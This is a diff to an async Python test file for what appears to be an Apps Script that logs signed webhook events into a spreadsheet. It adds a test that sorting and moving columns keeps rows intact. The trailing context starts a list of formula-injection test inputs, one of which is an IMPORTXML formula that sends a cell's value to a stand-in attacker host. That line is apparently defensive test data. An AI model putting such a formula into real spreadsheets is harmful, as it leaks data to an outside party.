@@ -107,6 +107,18 @@ async def test_the_script_of_the_document_adds_a_row_for_each_event(
     ]
 
 
+async def test_a_sheet_may_be_sorted_and_its_columns_moved(script: AppsScript) -> None:
+    """The names stay above, an event that comes again is still known, and what is new finds its columns."""
+    for number in (1, 2):
+        assert await script(signed(f"evt_{number}", TOLD)) == f"ok evt_{number}"
+    assert [row[0] for row in await script.order("sort")] == ["id", "evt_2", "evt_1"]
+    await script.order("move", column=0, to=2)
+    for number in (1, 3):
+        assert await script(signed(f"evt_{number}", TOLD)) == f"ok evt_{number}"
+    rows = [{"event": "test", "told_at": AT, "id": f"evt_{number}"} for number in (2, 1, 3)]
+    assert rows_of(await script.order("sheet")) == rows
+
+
 FORMULAS: Final = [
     "=1+1",
     '=IMPORTXML("https://evil.example/?"&A2,"//a")',
